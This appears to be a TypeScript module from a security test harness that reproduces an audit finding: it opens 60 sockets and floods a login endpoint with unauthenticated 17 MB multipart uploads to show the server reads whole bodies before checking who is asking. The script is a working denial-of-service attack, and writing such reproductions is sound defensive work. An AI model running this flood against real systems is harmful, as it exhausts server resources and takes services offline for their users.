import type { Attack } from '../attack'

/** Sixty bodies of 17 MB at the sign-in, by nobody: were read whole before anybody was asked. */
export const multipart: Attack = {
  finding: '7',
  name: 'multipart',
  async script({ isShort, open, repeat, send }) {
    const client = open({ sockets: 60 })
    const boundary = 'attack-boundary-17'
    const body = Buffer.concat([
      Buffer.from(`--${boundary}\r\ncontent-disposition: form-data; name="file"; filename="a.bin"\r\n\r\n`),
      Buffer.alloc(17_000_000, 'a'),
      Buffer.from(`\r\n--${boundary}--\r\n`),
    ])
    await repeat(isShort ? 20 : 60, () =>
      send(client, 'POST', '/api/users/login', {
        body,
        headers: { 'content-type': `multipart/form-data; boundary=${boundary}` },
      }),
    )
  },
}
